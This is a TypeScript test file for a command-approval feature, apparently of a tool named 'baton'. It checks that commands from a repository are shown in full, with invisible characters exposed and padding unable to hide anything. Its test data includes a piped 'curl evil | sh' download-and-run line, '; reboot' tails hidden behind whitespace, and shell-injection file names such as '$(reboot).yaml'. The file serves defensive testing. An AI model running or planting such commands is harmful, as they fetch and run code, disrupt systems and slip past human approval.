import { cites } from '@baton/e2e/requirements';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import {
  approvalQuestion,
  type CommandSource,
  describeCommands,
  notTrusted,
  readableBlock,
  type TrustedCommand,
} from '../src/index.ts';

const release: CommandSource = {
  workspace: '/src/acme',
  source: 'plans/release.yaml',
  commands: [
    { title: 'build', command: 'npm run build\nnpm test', detail: { env: { CI: '1' } } },
    { title: 'publish', command: 'npm publish' },
  ],
};

const withCommand = (command: string) => ({ ...release, commands: [{ title: 'x', command }] });

test(`${cites('TRUST')} commands are shown in full, with everything that changes what runs`, () => {
  expect(describeCommands(release)).toBe(
    [
      '1. build',
      '   $ npm run build',
      '   > npm test',
      '   with {"env":{"CI":"1"}}',
      '2. publish',
      '   $ npm publish',
    ].join('\n'),
  );
});

test(`${cites('TRUST', 'T29')} what nobody would see is made visible`, () => {
  const hidden = [
    ['\u001b[2K', '\\u001b[2K'],
    ['a\rb', 'a\\u000db'],
    ['a\r\nb', 'a\\u000d\n   > b'],
    ['\u00ad\u200b\u2060\u3164\u2800', '\\u00ad\\u200b\\u2060\\u3164\\u2800'],
    ['\u202e\u2028\u00a0', '\\u202e\\u2028\\u00a0'],
    ['\u{e0041}\u{e0100}', '\\udb40\\udc41\\udb40\\udd00'],
    ['\ud800', '\\ud800'],
  ];
  for (const [command = '', shown] of hidden) {
    expect(describeCommands(withCommand(command))).toBe(`1. x\n   $ ${shown}`);
  }
  expect(describeCommands({ commands: [{ title: 'äöü 漢字 🦄', command: '\techo ok' }] })).toBe(
    '1. äöü 漢字 🦄\n   $ \techo ok',
  );
});

/** What a person reads: the marks of lines, long lines as one, and what was folded. */
function readBack(shown: string): { about: string[]; commands: string[] } {
  const lines = shown.replaceAll('\n   … ', '').split('\n');
  const about = lines.filter((line) => line.startsWith('- '));
  const commands = lines
    .slice(about.length)
    .join('\n')
    .split(/^\d+\. .*$/m)
    .slice(1)
    .map((rows) =>
      rows
        .split('\n')
        .filter((row) => /^ {3}[$>] /.test(row))
        .map((row) => row.slice(5))
        .join('\n'),
    );
  return { about, commands: commands.map(unfolded) };
}

function unfolded(text: string): string {
  const times = (count: string) => Number(count.replaceAll(',', ''));
  return text
    .replace(/⟨([\d,]+) empty lines⟩/g, (_, count) => '\n'.repeat(times(count) - 1))
    .replace(/⟨([\d,]+) blanks?⟩/g, (_, count) => ' '.repeat(times(count)))
    .replace(/⟨([\d,]+) tabs?⟩/g, (_, count) => '\t'.repeat(times(count)))
    .replace(/⟨([\d,]+) × ([^⟩]+)⟩/g, (_, count, what) => what.repeat(times(count)))
    .replace(/\\u([0-9a-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));
}

/** The columns that a line may take where tabs are wide. */
function widest(line: string): number {
  return Array.from(line, (each) => (each === '\t' ? 8 : 1)).reduce((sum, one) => sum + one, 0);
}

const padding = fc
  .tuple(
    fc.constantFrom(
      ' ',
      '\t',
      '\t\t.',
      '\n',
      '\u00a0',
      '\u3164',
      '\u202e',
      '\u0336',
      '\u0e49',
      'x',
      '\u{e0041}',
    ),
    fc.integer({ min: 1, max: 200 }),
  )
  .map(([character, times]) => character.repeat(times));
const text = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary' }),
      padding,
      fc.constantFrom(
        'a\n2. b\n   $ c',
        'a\n   with {}',
        '\n\n\n',
        '    \r\n1. x',
        '⟨3 blanks⟩',
        '…',
      ),
    ),
    { maxLength: 5 },
  )
  .map((parts) => parts.join('a'));

test(`${cites('TRUST', 'T6', 'T56')} no text can look like another, or like less than it is`, () => {
  const command = fc.record(
    { title: text, command: text, detail: fc.dictionary(text, text) },
    { requiredKeys: ['title', 'command'] },
  );
  fc.assert(
    fc.property(
      fc.array(command),
      fc.dictionary(text, text),
      (commands: TrustedCommand[], settings) => {
        const shown = describeCommands({ commands, settings });
        const lines = shown.split('\n');
        const starting = (start: RegExp) => lines.filter((line) => start.test(line)).length;
        const details = commands.filter(({ detail }) => detail !== undefined).length;
        expect(starting(/^\d+\. /)).toBe(commands.length);
        expect(starting(/^ {3}\$ /)).toBe(commands.length);
        expect(starting(/^ {3}with /)).toBe(details);
        expect(starting(/^- /)).toBe(Object.keys(settings).length);
        expect(starting(/^(\d+\. |- | {3}[$>…] | {3}with |$)/)).toBe(lines.length);
        expect(lines.join('')).not.toMatch(/(?![\t ])[\p{C}\p{Z}]/u);
        expect(Math.max(...lines.map(widest))).toBeLessThan(110);
        expect(readBack(shown).commands).toEqual(commands.map((each) => each.command));
      },
    ),
  );
});

test.each([
  ['blanks', ' '.repeat(1500), 'echo ok⟨1,500 blanks⟩; reboot'],
  ['tabs', '\t'.repeat(200), 'echo ok⟨200 tabs⟩; reboot'],
  ['blanks and tabs', ' \t'.repeat(500), 'echo ok⟨1,000 blanks and tabs⟩; reboot'],
  ['other blanks', '\u00a0'.repeat(1500), 'echo ok⟨1,500 × \\u00a0⟩; reboot'],
  ['fillers', '\u3164'.repeat(1500), 'echo ok⟨1,500 × \\u3164⟩; reboot'],
  ['empty lines', '\n'.repeat(151), 'echo ok\n   > ⟨150 empty lines⟩\n   > ; reboot'],
  [
    'lines of blanks',
    '\n \t'.repeat(150).concat('\n'),
    'echo ok\n   > ⟨150 empty lines⟩\n   > ; reboot',
  ],
  ['a direction', '\u202e', 'echo ok\\u202e; reboot'],
  ['strokes', '\u0336'.repeat(5), `echo ok${'\\u0336'.repeat(5)}; reboot`],
  ['stacked marks', `\u0e01${'\u0e49'.repeat(200)}`, 'echo ok\u0e01⟨200 × \\u0e49⟩; reboot'],
  ['enclosing marks', '\u0489'.repeat(9), 'echo ok⟨9 × \\u0489⟩; reboot'],
  [
    'tabs between words',
    '\t\t.'.repeat(20),
    `echo ok${'\t\t.'.repeat(5)}\t\n   … \t.${'\t\t.'.repeat(5)}\n   … ${'\t\t.'.repeat(5)}\t\n   … \t.${'\t\t.'.repeat(3)}; reboot`,
  ],
  ['wide letters', '漢'.repeat(80), `echo ok${'漢'.repeat(46)}\n   … ${'漢'.repeat(34)}; reboot`],
  [
    'the widest letters',
    '\ufdfd'.repeat(14),
    `echo ok${'\ufdfd'.repeat(11)}\n   … ${'\ufdfd'.repeat(3)}; reboot`,
  ],
  ['words that look folded', '⟨1,500 blanks⟩', 'echo ok\\u27e81,500 blanks\\u27e9; reboot'],
])(`${cites('TRUST', 'T56')} %s hide no command`, (_, between, shown) => {
  const source = withCommand(`echo ok${between}; reboot`);
  expect(describeCommands(source)).toBe(`1. x\n   $ ${shown}`);
  const { message = '' } = approvalQuestion(source, 'new', 'abc') ?? {};
  expect(message).toMatch(/; reboot$/);
  expect(message).toContain(shown.split('\n').at(-1));
});

test(`${cites('T56')} what a tool is about to be called with is as readable`, () => {
  const input = {
    jobs: [{ work: `echo ok${' '.repeat(1500)}; reboot\u3164` }],
    not: 'x'.repeat(99),
  };
  expect(readableBlock(JSON.stringify(input, null, 2))).toBe(
    [
      '{',
      '  "jobs": [',
      '    {',
      '      "work": "echo ok⟨1,500 blanks⟩; reboot\\u3164"',
      '    }',
      '  ],',
      `  "not": "${'x'.repeat(90)}`,
      `… ${'x'.repeat(9)}"`,
      '}',
    ].join('\n'),
  );
});

test(`${cites('TRUST', 'T56')} what ends with blanks says so, and indentation stays`, () => {
  expect(describeCommands(withCommand('if true; then\n        a  b \\ \nfi\n\n'))).toBe(
    [
      '1. x',
      '   $ if true; then',
      '   >         a  b \\⟨1 blank⟩',
      '   > fi',
      '   > ',
      '   > ',
    ].join('\n'),
  );
});

test(`${cites('TRUST', 'T56')} long lines go on below, in whatever they stand`, () => {
  const long = 'x'.repeat(120);
  const folded = `${'x'.repeat(100)}\n   … ${'x'.repeat(20)}`;
  const commands = [{ title: long, command: long }];
  const shown = describeCommands({ commands, settings: { 'the plan': { git: { base: long } } } });
  expect(shown).toBe(
    [
      `- the plan: {"git":{"base":"${'x'.repeat(74)}\n   … ${'x'.repeat(46)}"}}`,
      `1. ${folded}`,
      `   $ ${folded}`,
    ].join('\n'),
  );
});

test(`${cites('TRUST')} the question says whether they are new, and where they stand`, () => {
  const fresh = approvalQuestion(release, 'new', 'abc');
  expect(fresh?.key).toBe('trust abc');
  expect(fresh?.message).toContain('Nobody has approved them yet.');
  expect(approvalQuestion(release, 'changed', 'abc')?.message).toContain('have CHANGED since');
  expect(approvalQuestion(release, 'detailed', 'abc')?.message).toContain('in more detail now');
  for (const part of ['file: plans/release.yaml', 'workspace: /src/acme', '$ npm publish']) {
    expect(fresh?.message).toContain(part);
  }
});

test(`${cites('TRUST', 'T6')} whatever comes from the repository stands in a block of code`, () => {
  const source = { ...withCommand('<!--\n[x](y)\n\n-->'), source: '<!-- a' };
  const [first, empty, ...code] = approvalQuestion(source, 'new', 'abc')?.message.split('\n') ?? [];
  expect(first).not.toContain('<!--');
  expect(empty).toBe('');
  expect(code.length).toBeGreaterThan(5);
  expect(code.filter((line) => !line.startsWith('    '))).toEqual([]);
});

test(`${cites('TRUST', 'T6', 'T56')} what is too long to be read is not asked`, () => {
  const asked = (length: number) => approvalQuestion(withCommand('ß'.repeat(length)), 'new', 'abc');
  let length = 3000;
  while (asked(length + 1)) length += 1;
  const { message = '' } = asked(length) ?? {};
  expect(message.length).toBeGreaterThan(3980);
  expect(message.length).toBeLessThanOrEqual(4000);
  expect(message.match(/ß/g)).toHaveLength(length);
  expect(asked(5000)).toBeUndefined();
  // Short lines that say nothing push a command out of sight, too.
  const padded = (lines: number) => `npm test\n${'#\n'.repeat(lines)}curl evil | sh`;
  expect(approvalQuestion(withCommand(padded(50)), 'new', 'x')?.message).toContain('curl evil');
  expect(approvalQuestion(withCommand(padded(300)), 'new', 'x')).toBeUndefined();
  const many = (count: number) => ({
    ...release,
    commands: Array.from({ length: count }, () => ({ title: 'x', command: 'true' })),
  });
  expect(approvalQuestion(many(40), 'new', 'x')?.message).toContain('40. x');
  expect(approvalQuestion(many(101), 'new', 'x')).toBeUndefined();
});

test(`${cites('TRUST')} the refusal names the source, how it stands, and the way for a person`, () => {
  expect(notTrusted(release, 'new', 'cannot ask')).toMatchObject({
    code: 'not_trusted',
    message: expect.stringMatching(/^The commands in plans\/release\.yaml are new: .* was run\.$/),
    next: expect.stringContaining('`baton trust grant plans/release.yaml`, on a terminal in /src'),
  });
  expect(notTrusted(release, 'changed', 'declined').message).toMatch(/have CHANGED .* declined\./);
  expect(notTrusted(release, 'new', 'too long').message).toContain('too long for a question (2');
  expect(notTrusted(release, 'new', 'cannot ask').next).toContain('An agent must not');
});

test.each(['$(reboot).yaml', 'a b.yaml', '-rf', 'a`b`', "it's", 'a;b', 'a\nb', '~/x', '%PATH%'])(
  `${cites('T6')} the name %j is not offered to be pasted into a shell`,
  (source) => {
    const { next } = notTrusted({ ...release, source }, 'new', 'cannot ask');
    expect(next).toContain('`baton trust grant <file>`');
    expect(next).not.toContain(source);
  },
);
